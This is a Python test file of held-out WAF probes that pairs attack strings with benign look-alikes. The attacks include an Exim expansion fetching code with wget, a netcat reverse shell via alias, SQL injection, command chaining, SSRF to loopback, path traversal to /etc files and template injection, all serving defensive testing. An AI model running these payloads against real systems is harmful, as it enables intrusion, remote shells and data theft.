"""WAF, part 2z4: held-out probes, twenty-seventh file (README: the
thirty-fourth round), written for this file on 2026-12-05 for the classes
the weak list of the thirty-third round named, before the banking,
nonprofit, music and surveillance corpora were first replayed. No string
is taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

Look-alikes that must pass:
- any-scheme-loopback: connection strings to a public host or to the
  cluster's own names;
- exim-expansion: a shell variable and a template's placeholder;
- glued-option: a compiler's include and library options.

Attacks that must be refused:
- any-scheme-loopback: the whole value a URL of any scheme with "//" at
  the machine itself (loopback, link-local, metadata);
- exim-expansion: Exim's string expansion that runs or reads ("${run{",
  "${readfile{", "${readsocket{");
- glued-option: an account file glued to a short option ("-C/etc/...").

Measured on b8bad2f (before the changes): every attack passed, every
look-alike passed.

Then, after the banking, nonprofit, music and surveillance corpora were
first replayed (at 11de058), the classes they showed:
- reopened-quote: a value that starts with a command word, closes the
  application's quote, chains a command and ends by opening a quote
  after a blank (refused); a command line whose quotes pair (passes);
- rebind-label: a loopback address in a name's label after a prefix and
  a dash (refused); a build number after a dash (passes);
- smarty-modifier: a PHP function that runs commands as a Smarty
  modifier (refused); formatting modifiers (pass);
- update-where: an UPDATE's assignment after a phrase, its WHERE and a
  comment (refused); a sentence with the same words (passes);
- xterm: an X terminal sent to a remote display after a separator
  (refused); the word in a sentence (passes);
- quoted-term, key-chord, verse-ref: a weak command word before a term
  quoted in a sentence, a Mac key chord, a chapter and verse (pass);
  the same words as commands (refused);
- swift-whole: a SWIFT message whole from its basic header block
  (passes); a tag forged after a payment reference (refused);
- media-link: steps up to a recording in a sampler's library, or to a
  PDF in a sentence (pass); a step from another id's folder (refused);
- app-export: a table an application exported under /var/lib (passes);
  a container runtime's settings there (refused).
Measured on 11de058: 7 of those 13 attacks passed, 8 of the 14
look-alikes were refused.

Then, after the genealogy, weather, delivery and fitness corpora were
first replayed (at f4a02e4), the classes they showed:
- ntfs-stream: a file's NTFS data stream after its extension (refused);
  PHP's static property of that name (passes);
- delay-background: a delay sent to the background at the value's end
  (refused); a sentence with the words (passes);
- ical-component: the value's event closed and another opened (refused);
  a calendar pasted whole (passes);
- folded-header: a header folded under the line before by a tab
  (refused); an indented YAML extension key (passes);
- csv-record: a quoted CSV field closed, more fields, a record of its own
  on the next line (refused); a CSV pasted whole (passes);
- xpath-fetch: XPath 2.0's functions that fetch, given a literal, after a
  breakout (refused); "or doc (...)" in a sentence (passes);
- select-prose: a subquery (refused); "(select by ...)" in prose (passes);
- geo-link: a GPS track one step up (passes); the same steps into /etc
  (refused);
- varlib-picture: a tile under /var/lib/<app> (passes); one under a
  container runtime's state (refused).
Measured on f4a02e4: 5 of those 9 attacks passed, 3 of the 9
look-alikes were refused.

Last, a known miss of our own found while rewriting the template patterns:
- literal-dunder: a dict literal's dunder inside "{{ }}" (refused; it
  passed on 4150a10); a filter on a dict literal (passes).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "any-scheme-loopback": ["couchdb://admin@127.0.0.1:5984/_users",
                            "zmq+tcp://localhost:5557", "xmpp://[::1]:5222/"],
    "exim-expansion": ["ops@mail.example ${run{/usr/bin/wget -q 198.51.100.8/x}}",
                       "${readsocket{inet:127.0.0.1:25}{EHLO x\\n}}"],
    "glued-option": ["-F/etc/shadow", "report.csv -T/etc/passwd"],
    "reopened-quote": ["top 5' ; uname -a ; echo '", 'ps 7" ; id ; echo "'],
    "rebind-label": ["https://img-127-0-0-1.rebind.example:8443/a"],
    "smarty-modifier": ["{'uname -a'|passthru}", "{$q|shell_exec}"],
    "update-where": ["paid in full', status='void' WHERE ref='88'-- "],
    "xterm": ["x;xterm -display 198.51.100.3:0"],
    "quoted-term": ["done; alias ls='nc 198.51.100.7 9 -e sh'"],
    "key-chord": ["x;cmd+/c+whoami"],
    "verse-ref": ["x & ps -ef"],
    "swift-whole": ["INV 88\n:59:/GB33BUKB20201555555555\nSOMEONE ELSE LTD"],
    "media-link": ["3301/../3302/contract.pdf"],
    "app-export": ["/var/lib/docker/containers/0a1b/config.v2.json"],
    "ntfs-stream": ["wp-config.php::$DATA"],
    "delay-background": ["on my way; sleep 12 &"],
    "ical-component": ["Yoga 6pm\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Refund"],
    "folded-header": ["hi\r\n\tX-Forwarded-For: 127.0.0.1"],
    "csv-record": ['Bob","3","900"\n"Eve","1","0'],
    "xpath-fetch": ["x' or unparsed-text('file:///etc/hosts') or '"],
    "select-prose": ["x' or (select 1 from dual)='1"],
    "geo-link": ["../../../../etc/hosts.gpx"],
    "varlib-picture": ["/var/lib/docker/volumes/x/_data/avatar.png"],
    "literal-dunder": ["{{ {}.__class__.__mro__ }}"],
}

BENIGN = {
    "any-scheme-loopback": ["couchdb://admin@couch.example.org:5984/_users",
                            "zmq+tcp://ingest.internal:5557"],
    "exim-expansion": ["deploy to ${HOME}/apps/{staging,prod}",
                       "Hello ${given} - order ${order.id} has shipped"],
    "glued-option": ["cc -I/usr/include/libpng -L/usr/lib -lpng img.c"],
    "reopened-quote": ["grep -c 'error' app.log; echo 'ok'"],
    "rebind-label": ["https://build-127.ci.example.org/job/7"],
    "smarty-modifier": ["{$title|escape:'html'}", "{$body|nl2br}"],
    "update-where": ["Set status='void' where ref='88' (done twice)"],
    "xterm": ["the xterm window froze; restarted it"],
    "quoted-term": ["no match; set 'fr' as fallback language",
                    "later; alias 'Bobby' added to profile"],
    "key-chord": ["Undo is Ctrl+Z; Cmd+Z on a Mac, Cmd+Shift+Z to redo"],
    "verse-ref": ["Readings: Is 40:1-11 & Ps 85:1-2, 8-13 \u2014 Advent 2"],
    "swift-whole": ["{1:F01ABCDEFGHAXXX1234567890}{2:I202ZYXWVUTSXXXXN}{4:\n:20:REF0001\n"
                    ":21:REL0002\n:32A:250101EUR100,00\n-}"],
    "media-link": ["..\\..\\Loops\\Drums\\break 90bpm.wav",
                   "see ../../handouts/week3.pdf for the rubric"],
    "app-export": ["/var/lib/ledger/exports/2025/q1_totals.csv.gz"],
    "ntfs-stream": ["self::$data = []; // reset"],
    "delay-background": ["I sleep 7 hours & feel fine"],
    "ical-component": ["BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:Yoga\nEND:VEVENT"
                       "\nEND:VCALENDAR"],
    "folded-header": ["paths:\n  /pets:\n    x-rate-limit: 10"],
    "csv-record": ['"name","qty"\n"Bob","3"'],
    "xpath-fetch": ["Use 'draft' or doc (final) version"],
    "select-prose": ["Fee = (select by size, max 2)"],
    "geo-link": ["../tracks/2024/ride_0412.gpx"],
    "varlib-picture": ["/var/lib/tileserver/cache/12/2048/1361.png"],
    "literal-dunder": ["{{ {}|length }}"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r27_attack_refused_everywhere,
 test_heldout_r27_benign_passes) = heldout_probe_tests(
    "r27", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
